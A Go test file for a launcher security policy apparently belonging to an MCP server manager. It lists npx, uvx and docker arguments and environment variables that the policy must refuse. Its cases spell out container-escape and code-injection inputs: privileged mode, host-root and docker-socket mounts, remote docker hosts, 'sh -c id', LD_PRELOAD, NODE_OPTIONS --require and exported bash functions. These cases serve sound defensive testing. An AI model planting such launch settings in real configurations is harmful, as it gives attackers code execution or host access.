package config_test

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/switchboard-mcp/switchboard/internal/config"
)

// refusedRules runs the policy on a launch and returns what it refuses, as
// "rule@index" for arguments and "rule" for the environment.
func refusedRules(t *testing.T, p config.LaunchPolicy, srv config.Server) []string {
	t.Helper()
	var out []string
	for _, err := range p.CheckServer(srv) {
		var ua *config.UnsafeArgumentError
		var ue *config.UnsafeEnvError
		var na *config.CommandNotAllowedError
		switch {
		case errors.As(err, &ua):
			if ua.Fix == "" || ua.Reason == "" || ua.Rule == "" {
				t.Errorf("%v: no fix, reason or rule: %+v", srv.Args, ua)
			}
			if ua.Index < -1 || ua.Index >= len(srv.Args) || ua.Index >= 0 && !strings.HasPrefix(ua.Arg, srv.Args[ua.Index]) {
				t.Errorf("%v: Index %d, Arg %q is not an argument", srv.Args, ua.Index, ua.Arg)
			}
			if ua.Index < 0 {
				out = append(out, ua.Rule+"@-1")
				break
			}
			out = append(out, fmt.Sprintf("%s@%02d", ua.Rule, ua.Index))
		case errors.As(err, &ue):
			if ue.Fix == "" || ue.Reason == "" {
				t.Errorf("%v: no fix or reason: %+v", srv.Env, ue)
			}
			out = append(out, ue.Rule)
		case errors.As(err, &na):
			out = append(out, "command")
		default:
			t.Errorf("got %T %v, want a typed error", err, err)
		}
	}
	return out
}

// TestLaunchPolicy checks the rules one construct at a time, in the
// spellings the launchers accept: what issue 18 found accepted, and what an
// attacker writing a repository's .mcp.json would try next.
func TestLaunchPolicy(t *testing.T) {
	t.Parallel()
	dir := t.TempDir() // the configuration's folder
	inside := filepath.Join(dir, "data")
	outside := t.TempDir()
	if err := os.Symlink("/", filepath.Join(dir, "root-link")); err != nil {
		t.Fatal(err)
	}
	p := config.LaunchPolicy{Allowed: config.DefaultAllowedCommands, Dir: dir, WorkDir: dir}
	tests := []struct {
		name string
		srv  config.Server
		want []string
	}{
		// npx
		{"npx package", npx("-y", "@modelcontextprotocol/server-github"), nil},
		{"npx version, options", npx("--yes", "--loglevel", "warn", "--prefer-offline", "pkg@1.2.3", "-c", "config.json"), nil},
		{"npx range", npx("-y", "pkg@>=1.0 <2"), nil},
		{"npx after --", npx("--", "pkg", "-c", "x"), nil},
		{"npx -c", npx("-c", "id"), []string{"npx.call@00"}},
		{"npx --call", npx("--call", "sh"), []string{"npx.call@00"}},
		{"npx --call=", npx("--call=sh -c id"), []string{"npx.call@00"}},
		{"npx ---call=", npx("---call=id"), []string{"npx.call@00"}},
		{"npx -call", npx("-call", "id"), []string{"npx.call@00"}},
		{"npx --c", npx("--c=id"), []string{"npx.call@00"}},
		{"npx abbreviation", npx("--cal=id"), []string{"npx.option@00", "npx.call@00"}},
		{"npx -yc cluster", npx("-yc", "id"), []string{"npx.call@00"}},
		{"npx -c after -y", npx("-y", "-c", "id"), []string{"npx.call@01"}},
		{"npx --shell", npx("--shell", "bash", "pkg"), []string{"npx.shell@00"}},
		{"npx --script-shell", npx("--script-shell=/bin/sh", "pkg"), []string{"npx.shell@00"}},
		{"npx --node-options", npx("--node-options=--require=./x.js", "pkg"), []string{"npx.node-options@00"}},
		{"npx --node-options abbreviated", npx("--node-opt", "--require=x", "pkg"), []string{"npx.option@00", "npx.node-options@00", "npx.option@01"}},
		{"npx --node-options abbreviated, harmless", npx("--node-opt=--no-warnings", "pkg"), []string{"npx.option@00"}},
		{"npx --node-options spaced", npx("--node-options", "--max-old-space-size=4096 -r ./x", "pkg"), []string{"npx.node-options@00", "npx.option@01"}},
		{"npx unknown flag before a path", npx("--whatever", "./evil", "pkg"), []string{"npx.option@00", "npx.package-source@01"}},
		{"npx --node-options harmless", npx("--node-options=--max-old-space-size=4096 --no-warnings", "pkg"), nil},
		{"npx --node-arg", npx("--node-arg=--require=x", "pkg"), []string{"npx.node-arg@00"}},
		{"npx -p", npx("-p", "pkg", "sh", "-c", "id"), []string{"npx.package@00"}},
		{"npx --package=", npx("--package=pkg", "bin"), []string{"npx.package@00"}},
		{"npx --registry", npx("--registry", "https://r.example.com", "pkg"), []string{"npx.registry@00"}},
		{"npx scoped registry", npx("--@evil:registry=https://r.example.com", "@evil/pkg"), []string{"npx.registry@00"}},
		{"npx --userconfig", npx("--userconfig=./npmrc", "pkg"), []string{"npx.config@00"}},
		{"npx unknown option", npx("--foo", "pkg"), []string{"npx.option@00"}},
		{"npx git spec", npx("-y", "git+https://github.com/u/r.git"), []string{"npx.package-source@01"}},
		{"npx github shorthand", npx("u/r"), []string{"npx.package-source@00"}},
		{"npx github: spec", npx("github:u/r"), []string{"npx.package-source@00"}},
		{"npx tarball URL", npx("https://example.com/p.tgz"), []string{"npx.package-source@00"}},
		{"npx local tarball", npx("evil.tgz"), []string{"npx.package-source@00"}},
		{"npx local path", npx("./server"), []string{"npx.package-source@00"}},
		{"npx absolute path", npx("/tmp/server"), []string{"npx.package-source@00"}},
		{"npx file: spec", npx("file:../x"), []string{"npx.package-source@00"}},
		{"npx name@git", npx("pkg@github:u/r"), []string{"npx.package-source@00"}},
		{"npx package after --", npx("--", "./x"), []string{"npx.package-source@01"}},
		{"npx node", npx("-y", "node@20", "-e", "x"), []string{"npx.runner@01"}},
		{"npx cross-env", npx("cross-env", "sh"), []string{"npx.runner@00"}},

		// uvx
		{"uvx tool", uvx("mcp-server-time", "--local-timezone=Europe/Paris"), nil},
		{"uvx version, extra", uvx("--isolated", "-q", "mcp[cli]@1.2.0"), nil},
		{"uvx python version", uvx("--python", "3.12", "-p=pypy@3.10", "-pcpython3.11", "t"), nil},
		{"uvx python -c", uvx("python", "-c", "import os"), []string{"uvx.interpreter@00"}},
		{"uvx python3.12", uvx("python3.12"), []string{"uvx.interpreter@00"}},
		{"uvx cpython@3.12", uvx("cpython@3.12"), []string{"uvx.interpreter@00"}},
		{"uvx after --", uvx("--", "pypy"), []string{"uvx.interpreter@01"}},
		{"uvx --from git", uvx("--from", "git+https://github.com/u/r", "tool"), []string{"uvx.from@00", "uvx.package-source@01"}},
		{"uvx --from=", uvx("--from=httpie", "sh", "-c", "id"), []string{"uvx.from@00"}},
		{"uvx --with", uvx("--with", "evil", "mcp-server-time"), []string{"uvx.with@00"}},
		{"uvx -w cluster", uvx("-qw", "evil", "t"), []string{"uvx.with@00"}},
		{"uvx --python /bin/sh", uvx("--python", "/bin/sh", "t"), []string{"uvx.python@00"}},
		{"uvx --python=sh", uvx("--python=sh", "t"), []string{"uvx.python@00"}},
		{"uvx -p attached", uvx("-p/bin/sh", "t"), []string{"uvx.python@00"}},
		{"uvx -p=", uvx("-p=/bin/sh", "t"), []string{"uvx.python@00"}},
		{"uvx -qp cluster", uvx("-qp", "./venv/bin/python", "t"), []string{"uvx.python@00"}},
		{"uvx --index-url", uvx("--index-url", "https://evil/simple", "t"), []string{"uvx.index@00"}},
		{"uvx --extra-index-url", uvx("--extra-index-url=https://evil/simple", "t"), []string{"uvx.index@00"}},
		{"uvx -i", uvx("-ihttps://evil/simple", "t"), []string{"uvx.index@00"}},
		{"uvx --default-index", uvx("--default-index", "https://evil", "t"), []string{"uvx.index@00"}},
		{"uvx --find-links", uvx("-f", "./wheels", "t"), []string{"uvx.index@00"}},
		{"uvx --env-file", uvx("--env-file", ".env", "t"), []string{"uvx.env-file@00"}},
		{"uvx --overrides", uvx("--overrides", "o.txt", "t"), []string{"uvx.requirements@00"}},
		{"uvx --config-file", uvx("--config-file", "uv.toml", "t"), []string{"uvx.config@00"}},
		{"uvx unknown option", uvx("--bogus", "t"), []string{"uvx.option@00"}},
		{"uvx git tool", uvx("git+https://github.com/u/r"), []string{"uvx.package-source@00"}},
		{"uvx path tool", uvx("./tool"), []string{"uvx.package-source@00"}},
		{"uvx requirement with URL", uvx("--from", "t @ https://x/t.whl", "t"), []string{"uvx.from@00", "uvx.package-source@01"}},
		{"uvx pip", uvx("pip", "install", "./x"), []string{"uvx.runner@00"}},
		{"uvx tool's own options", uvx("t", "--python", "/bin/sh", "--with", "x"), nil},

		// docker
		{"docker run", docker("run", "-i", "--rm", "-e", "GITHUB_TOKEN", "ghcr.io/github/github-mcp-server"), nil},
		{"docker run --rm -it", docker("run", "--rm", "-it", "img"), nil},
		{"docker container run", docker("container", "run", "-i", "img"), nil},
		{"docker mcp gateway run", docker("mcp", "gateway", "run"), nil},
		{"docker container's own args", docker("run", "-i", "img", "--privileged", "-v", "/:/x"), nil},
		{"docker after --", docker("run", "--rm", "--", "img", "--net=host"), nil},
		{"docker managed form", docker("run", "--rm", "-i", "--name", "x", "-p", "127.0.0.1:8080:80", "-e", "T", "mcp/x"), nil},
		{"docker --net=host", docker("run", "--net=host", "img"), []string{"docker.network-host@01"}},
		{"docker --net host", docker("run", "--net", "host", "img"), []string{"docker.network-host@01"}},
		{"docker --network=host", docker("run", "--network=host", "img"), []string{"docker.network-host@01"}},
		{"docker --net=HOST", docker("run", "--net=HOST", "img"), []string{"docker.network-host@01"}},
		{"docker --network name=host", docker("run", "--network", "name=host,alias=x", "img"), []string{"docker.network-host@01"}},
		{"docker --network quoted", docker("run", `--network="name=host"`, "img"), []string{"docker.network-host@01"}},
		{"docker --network bridge", docker("run", "--network", "bridge", "img"), nil},
		{"docker --network container:", docker("run", "--network", "container:db", "img"), []string{"docker.network-container@01"}},
		{"docker --userns=host", docker("run", "--userns=host", "img"), []string{"docker.userns@01"}},
		{"docker --ipc=host", docker("run", "--ipc=host", "img"), []string{"docker.ipc@01"}},
		{"docker --ipc private", docker("run", "--ipc", "private", "img"), nil},
		{"docker --pid=container:", docker("run", "--pid=container:x", "img"), []string{"docker.pid@01"}},
		{"docker --pid host", docker("run", "--pid", "host", "img"), []string{"docker.pid@01"}},
		{"docker --uts=host", docker("run", "--uts=host", "img"), []string{"docker.uts@01"}},
		{"docker --cgroupns host", docker("run", "--cgroupns", "host", "img"), []string{"docker.cgroupns@01"}},
		{"docker --cap-add", docker("run", "--cap-add", "NET_ADMIN", "img"), []string{"docker.cap-add@01"}},
		{"docker --cap-drop", docker("run", "--cap-drop=ALL", "img"), nil},
		{"docker --device", docker("run", "--device", "/dev/sda", "img"), []string{"docker.device@01"}},
		{"docker --gpus", docker("run", "--gpus=all", "img"), []string{"docker.device@01"}},
		{"docker seccomp=unconfined", docker("run", "--security-opt", "seccomp=unconfined", "img"), []string{"docker.security-opt@01"}},
		{"docker apparmor:unconfined", docker("run", "--security-opt=apparmor:unconfined", "img"), []string{"docker.security-opt@01"}},
		{"docker no-new-privileges", docker("run", "--security-opt", "no-new-privileges:true", "img"), nil},
		{"docker --privileged", docker("run", "-i", "--privileged", "img"), []string{"docker.privileged@02"}},
		{"docker --privileged=1", docker("run", "--privileged=1", "img"), []string{"docker.privileged@01"}},
		{"docker --privileged=false", docker("run", "--privileged=false", "img"), nil},
		{"docker socket", docker("run", "-v", "/var/run/docker.sock:/var/run/docker.sock", "img"), []string{"docker.docker-socket@01"}},
		{"docker socket in a cluster", docker("run", "-itv/run/docker.sock:/s", "img"), []string{"docker.docker-socket@01"}},
		{"docker --use-api-socket", docker("run", "--use-api-socket", "img"), []string{"docker.docker-socket@01"}},
		{"docker npipe", docker("run", "--mount", `type=npipe,source=\\.\pipe\docker_engine,target=\\.\pipe\d`, "img"), []string{"docker.docker-socket@01"}},
		{"docker -v /:/host", docker("run", "-v", "/:/host", "img"), []string{"docker.mount-root@01"}},
		{"docker -v /./:/host:ro", docker("run", "-v", "/./:/host:ro", "img"), []string{"docker.mount-root@01"}},
		{"docker --volume=/:/h", docker("run", "--volume=/:/h", "img"), []string{"docker.mount-root@01"}},
		{"docker symlink to /", docker("run", "-v", filepath.Join(dir, "root-link")+":/h:ro", "img"), []string{"docker.mount-root@01"}},
		{"docker relative symlink to /", docker("run", "-v", "./root-link/etc:/h:ro", "img"), []string{"docker.bind-mount@01"}},
		{"docker --mount quoted source", docker("run", "--mount", `type=bind,"source=/",target=/h`, "img"), []string{"docker.mount-root@01"}},
		{"docker --mount src=/", docker("run", "--mount=type=bind,src=/,dst=/h,readonly", "img"), []string{"docker.mount-root@01"}},
		{"docker --mount bad CSV", docker("run", "--mount", `type=bind,"src=/`, "img"), []string{"docker.bind-mount@01"}},
		{"docker volume-opt bind", docker("run", "--mount", "type=volume,dst=/h,volume-driver=local,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/", "img"), []string{"docker.volume-options@01"}},
		{"docker -v outside", docker("run", "-v", outside+":/data:ro", "img"), []string{"docker.bind-mount@01"}},
		{"docker -v home", docker("run", "-v", "/home:/home:ro", "img"), []string{"docker.bind-mount@01"}},
		{"docker -v inside, writable", docker("run", "-v", inside+":/data", "img"), []string{"docker.bind-mount@01"}},
		{"docker -v inside, read-only", docker("run", "-v", inside+":/data:ro", "img"), nil},
		{"docker -v relative inside", docker("run", "-v", "./data:/data:ro,z", "img"), nil},
		{"docker -v .. escapes", docker("run", "-v", "../:/data:ro", "img"), []string{"docker.bind-mount@01"}},
		{"docker --mount inside, readonly", docker("run", "--mount", "type=bind,src="+inside+",dst=/d,readonly", "img"), nil},
		{"docker --mount inside, ro=false", docker("run", "--mount", "type=bind,src="+inside+",dst=/d,ro=false", "img"), []string{"docker.bind-mount@01"}},
		{"docker named volume", docker("run", "-v", "cache:/cache", "--mount", "type=volume,src=data,dst=/d", "img"), nil},
		{"docker anonymous volume", docker("run", "-v", "/data", "-v", "/data2:ro", "img"), nil},
		{"docker tmpfs", docker("run", "--mount", "type=tmpfs,dst=/t", "--tmpfs", "/x", "img"), nil},
		{"docker --volumes-from", docker("run", "--volumes-from", "other", "img"), []string{"docker.volumes-from@01"}},
		{"docker --env-file outside", docker("run", "--env-file", outside+"/.env", "img"), []string{"docker.env-file@01"}},
		{"docker --env-file inside", docker("run", "--env-file", "./.env", "img"), nil},
		{"docker --entrypoint", docker("run", "--entrypoint", "sh", "img", "-c", "id"), []string{"docker.entrypoint@01"}},
		{"docker -p all interfaces", docker("run", "-p", "8080:80", "img"), []string{"docker.publish@01"}},
		{"docker -p 0.0.0.0", docker("run", "-p=0.0.0.0:8080:80", "img"), []string{"docker.publish@01"}},
		{"docker -p loopback", docker("run", "-p", "127.0.0.1:8080:80/udp", "-p", "[::1]:8081:81", "img"), nil},
		{"docker -P", docker("run", "-iP", "img"), []string{"docker.publish@01"}},
		{"docker -d", docker("run", "-d", "img"), []string{"docker.persist@01"}},
		{"docker --restart", docker("run", "--restart=always", "img"), []string{"docker.persist@01"}},
		{"docker --restart no", docker("run", "--restart", "no", "img"), nil},
		{"docker --runtime", docker("run", "--runtime=kata", "img"), []string{"docker.runtime@01"}},
		{"docker --cidfile", docker("run", "--cidfile", "/tmp/x", "img"), []string{"docker.host-file@01"}},
		{"docker -H", docker("-H", "tcp://evil:2375", "run", "img"), []string{"docker.host@00"}},
		{"docker -H=", docker("-H=tcp://evil:2375", "run", "img"), []string{"docker.host@00"}},
		{"docker --host", docker("--host", "ssh://evil", "run", "img"), []string{"docker.host@00"}},
		{"docker --context", docker("--context", "prod", "run", "img"), []string{"docker.host@00"}},
		{"docker --config", docker("--config", "./.docker", "run", "img"), []string{"docker.config@00"}},
		{"docker global --debug", docker("-D", "--log-level", "debug", "run", "img"), nil},
		{"docker exec", docker("exec", "-i", "c", "sh"), []string{"docker.subcommand@00"}},
		{"docker compose run", docker("compose", "run", "svc"), []string{"docker.subcommand@00"}},
		{"docker container create", docker("container", "create", "img"), []string{"docker.subcommand@00"}},
		{"docker create", docker("create", "--privileged", "img"), []string{"docker.subcommand@00"}},
		{"docker mcp gateway run with options", docker("mcp", "gateway", "run", "--catalog", "./c.yaml"), []string{"docker.subcommand@00"}},
		{"docker no subcommand", docker("-D"), nil},
		{"docker unknown option hides another", docker("run", "--unknown-flag", "--privileged", "img"), []string{"docker.option@01", "docker.privileged@02"}},
		{"docker unknown option's value", docker("run", "--unknown-flag", "x", "--privileged", "img"), []string{"docker.option@01", "docker.privileged@03"}},
		{"docker value that is an option", docker("run", "--name", "--privileged", "img"), []string{"docker.privileged@02"}},
		{"docker unknown shorthand", docker("run", "-iZ", "img"), []string{"docker.option@01"}},

		// The environment of a launcher.
		{"npx LD_PRELOAD", env(npx("pkg"), "LD_PRELOAD", "/tmp/x.so"), []string{"env.LD_PRELOAD"}},
		{"npx ld_preload", env(npx("pkg"), "ld_preload", "/tmp/x.so"), []string{"env.ld_preload"}},
		{"uvx LD_LIBRARY_PATH", env(uvx("t"), "LD_LIBRARY_PATH", "."), []string{"env.LD_LIBRARY_PATH"}},
		{"docker DYLD_INSERT_LIBRARIES", env(docker("run", "img"), "DYLD_INSERT_LIBRARIES", "x.dylib"), []string{"env.DYLD_INSERT_LIBRARIES"}},
		{"npx NODE_OPTIONS", env(npx("pkg"), "NODE_OPTIONS", "--require ./x.js"), []string{"env.NODE_OPTIONS"}},
		{"npx NODE_OPTIONS harmless", env(npx("pkg"), "NODE_OPTIONS", "--max-old-space-size=512"), nil},
		{"npx npm_config_", env(npx("pkg"), "npm_config_registry", "https://evil"), []string{"env.npm_config_registry"}},
		{"uvx PYTHONPATH", env(uvx("t"), "PYTHONPATH", "."), []string{"env.PYTHONPATH"}},
		{"uvx PYTHONSTARTUP", env(uvx("t"), "PYTHONSTARTUP", "x.py"), []string{"env.PYTHONSTARTUP"}},
		{"uvx PYTHONWARNINGS", env(uvx("t"), "PYTHONWARNINGS", "ignore::antigravity.x"), []string{"env.PYTHONWARNINGS"}},
		{"uvx PYTHONUNBUFFERED", env(uvx("t"), "PYTHONUNBUFFERED", "1"), nil},
		{"uvx UV_INDEX_URL", env(uvx("t"), "UV_INDEX_URL", "https://evil"), []string{"env.UV_INDEX_URL"}},
		{"npx PERL5OPT", env(npx("pkg"), "PERL5OPT", "-Mx"), []string{"env.PERL5OPT"}},
		{"npx RUBYOPT", env(npx("pkg"), "RUBYOPT", "-rx"), []string{"env.RUBYOPT"}},
		{"npx JAVA_TOOL_OPTIONS", env(npx("pkg"), "JAVA_TOOL_OPTIONS", "-javaagent:x"), []string{"env.JAVA_TOOL_OPTIONS"}},
		{"npx BASH_ENV", env(npx("pkg"), "BASH_ENV", "x.sh"), []string{"env.BASH_ENV"}},
		{"npx exported function", env(npx("pkg"), "BASH_FUNC_ls%%", "() { id; }"), []string{"env.BASH_FUNC_ls%%"}},
		{"npx PATH", env(npx("pkg"), "PATH", "./bin:/usr/bin"), []string{"env.PATH"}},
		{"npx HOME", env(npx("pkg"), "HOME", "."), []string{"env.HOME"}},
		{"npx GIT_CONFIG_COUNT", env(npx("pkg"), "GIT_CONFIG_COUNT", "1"), []string{"env.GIT_CONFIG_COUNT"}},
		{"docker DOCKER_HOST", env(docker("run", "img"), "DOCKER_HOST", "tcp://evil"), []string{"env.DOCKER_HOST"}},
		{"docker PYTHONPATH is the container's", env(docker("run", "img"), "PYTHONPATH", "/app"), nil},
		{"docker NODE_OPTIONS is the container's", env(docker("run", "img"), "NODE_OPTIONS", "--require x"), nil},
		{"docker inherit_env", inherit(docker("run", "-e", "AWS_SECRET_ACCESS_KEY", "img")), []string{"env.inherit"}},
		{"not a launcher", env(config.Server{Command: "npx-like", Args: []string{"-c", "id"}}, "LD_PRELOAD", "x"), []string{"command"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got := refusedRules(t, p, tt.srv)
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("%s %q env %v: refusals differ (-want +got):\n%s", tt.srv.Command, tt.srv.Args, tt.srv.Env, diff)
			}
		})
	}
}

// TestLaunchPolicyAllow: naming a refused construct allows that construct,
// and only that one.
func TestLaunchPolicyAllow(t *testing.T) {
	t.Parallel()
	srv := env(docker("run", "--privileged", "--net=host", "img"), "LD_PRELOAD", "x.so")
	tests := []struct {
		allow []string
		want  []string
	}{
		{nil, []string{"docker.privileged@01", "docker.network-host@02", "env.LD_PRELOAD"}},
		{[]string{"docker.privileged"}, []string{"docker.network-host@02", "env.LD_PRELOAD"}},
		{[]string{"docker.privileged", "docker.network-host", "env.ld_preload"}, nil},
		{[]string{"env.LD_LIBRARY_PATH", "docker.network-container"}, []string{"docker.privileged@01", "docker.network-host@02", "env.LD_PRELOAD"}},
	}
	for _, tt := range tests {
		p := config.LaunchPolicy{Allowed: config.DefaultAllowedCommands, Allow: tt.allow}
		if diff := cmp.Diff(tt.want, refusedRules(t, p, srv)); diff != "" {
			t.Errorf("allow %v: refusals differ (-want +got):\n%s", tt.allow, diff)
		}
	}
	// A trusted policy widens the command allowlist, not the rules.
	p := config.LaunchPolicy{Trusted: true}
	if got := refusedRules(t, p, npx("-c", "id")); !slices.Equal(got, []string{"npx.call@00"}) {
		t.Errorf("trusted npx -c: got %v, want npx.call", got)
	}
}

func npx(args ...string) config.Server    { return config.Server{Command: "npx", Args: args} }
func uvx(args ...string) config.Server    { return config.Server{Command: "uvx", Args: args} }
func docker(args ...string) config.Server { return config.Server{Command: "docker", Args: args} }

func env(s config.Server, k, v string) config.Server {
	s.Env = map[string]string{k: v}
	return s
}

func inherit(s config.Server) config.Server {
	s.InheritEnv = true
	return s
}
